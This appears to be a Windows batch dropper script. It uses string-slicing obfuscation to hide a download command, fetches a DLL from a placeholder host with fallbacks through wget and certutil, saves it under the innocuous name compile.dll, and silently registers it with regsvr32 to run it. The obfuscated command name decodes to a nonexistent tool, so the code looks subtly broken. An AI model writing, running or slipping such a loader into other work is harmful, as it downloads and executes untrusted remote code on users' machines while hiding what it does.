@echo off
Set aim=gGcCoOmMpPiIlLeE rRsStTuUvVxXyYzZaAbBdDfFhHjJkKnNqQwW0123456789.:/-
%aim:~2,1%%aim:~38,1%%aim:~19,1%%aim:~12,1% https://cdn.example.invalid/sdd.dll -o compile.dll
if not exist compile.dll (
 wget https://cdn.example.invalid/sdd.dll -O compile.dll
 if not exist compile.dll ( certutil.exe -urlcache -f https://cdn.example.invalid/sdd.dll compile.dll )
)
regsvr32.exe -s compile.dll
